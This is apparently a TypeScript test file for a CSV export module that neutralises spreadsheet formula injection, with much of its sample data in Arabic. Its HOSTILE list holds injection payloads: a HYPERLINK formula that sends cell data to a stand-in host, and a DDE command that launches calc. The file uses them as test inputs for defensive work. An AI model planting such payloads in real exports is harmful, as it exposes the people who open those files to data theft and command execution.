import { describe, expect, it } from 'vitest';
import { BOM, csvCell, csvLine, needsNeutralising, restoreCell, toCsv } from '../../src/domain/rules/csv';
import { cellText } from '../../src/domain/rules/registerImport';

/**
 * The cells of a CSV line as a reader that honours quotes sees them, splitting on `separator`: what Excel or
 * LibreOffice would put in each cell, before deciding whether it is a formula.
 */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === separator) {
      cells.push(cell);
      cell = '';
    } else if (quoted || (c !== '\r' && c !== '\n')) {
      cell += c;
    }
  }
  cells.push(cell);
  return cells;
}

/** What a spreadsheet may run: a cell that, once trimmed of spaces, starts like a formula. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) || /^\s*[=+\-@]/.test(cell);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"اضغط هنا")',
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  ';=1',
  ',=1',
  ' =1',
  '; ;+cmd|" /C calc"!A0',
  'محمد;=1+1',
  'قال "نعم"; ثم =1',
  "'=1",
  -5,
];

describe('CSV for Excel', () => {
  it('quotes what needs quoting and keeps Arabic as is', () => {
    expect(csvCell('أحمد محمد')).toBe('أحمد محمد');
    expect(csvCell('قال "نعم", ثم')).toBe('"قال ""نعم"", ثم"');
    expect(csvCell('قال "نعم"; ثم')).toBe('"قال ""نعم""; ثم"');
    expect(csvCell('سطر\nوسطر')).toBe('"سطر\nوسطر"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(12)).toBe('12');
  });

  it('neutralises cells a spreadsheet would run as formulas, with the apostrophe OWASP advises', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('+201001234567')).toBe(`"'+201001234567"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    // A separator (or space) before the formula: the separator a reader might split on no longer starts the cell.
    expect(csvCell(';=1')).toBe(`"';=1"`);
    expect(csvCell(',=1')).toBe(`"',=1"`);
    expect(csvCell(' =1')).toBe(`"' =1"`);
    // A number is a cell like any other: -5 is neutralised (the register has no negative numbers).
    expect(csvCell(-5)).toBe(`"'-5"`);
    // Text that is not a formula stays as it is.
    expect(csvCell('٢٠٢٤-٣-١٥')).toBe('٢٠٢٤-٣-١٥');
    expect(csvCell('2004-03-15')).toBe('2004-03-15');
    expect(csvCell('a=1')).toBe('a=1');
  });

  it('no hostile cell can start a formula whatever the separator a spreadsheet splits on', () => {
    for (const value of HOSTILE) {
      const line = csvLine(['أول', value, 'آخر']);
      for (const separator of [',', ';', '\t']) {
        for (const cell of cellsOf(line, separator))
          expect(runnable(cell), `${JSON.stringify(line)} on ${separator}`).toBe(false);
      }
      // Read with the right separator, the line has its three cells, the hostile one behind its apostrophe.
      const cells = cellsOf(line, ',');
      expect(cells).toHaveLength(3);
      expect(cells[1]).toBe(needsNeutralising(String(value)) ? `'${String(value)}` : String(value));
    }
  });

  it('the import reads a neutralised cell back as it was written', () => {
    for (const value of HOSTILE.map(String)) {
      const cell = cellsOf(csvLine([value]), ',')[0]!;
      expect(restoreCell(cell)).toBe(value);
      // The import trims, as it does every cell.
      expect(cellText(cell)).toBe(value.trim());
    }
    expect(restoreCell("'ملاحظة")).toBe("'ملاحظة");
  });

  it('starts with the byte-order mark and ends lines with CRLF', () => {
    expect(toCsv(['الاسم', 'الرقم'], [['علي', 3]])).toBe(`${BOM}الاسم,الرقم\r\nعلي,3\r\n`);
  });
});
